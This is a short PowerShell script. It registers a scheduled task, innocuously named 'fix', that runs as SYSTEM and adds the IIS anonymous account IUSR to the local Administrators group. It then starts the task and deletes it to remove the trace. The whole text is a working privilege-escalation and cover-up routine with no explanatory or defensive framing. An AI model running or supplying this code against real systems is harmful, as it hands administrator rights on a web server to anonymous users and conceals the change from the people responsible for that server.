$a = New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c net localgroup Administrators IUSR /add'
Register-ScheduledTask -TaskName fix -Action $a -User SYSTEM | Start-ScheduledTask
Start-Sleep 5
Get-ScheduledTask -TaskName fix | Unregister-ScheduledTask -Confirm:$false
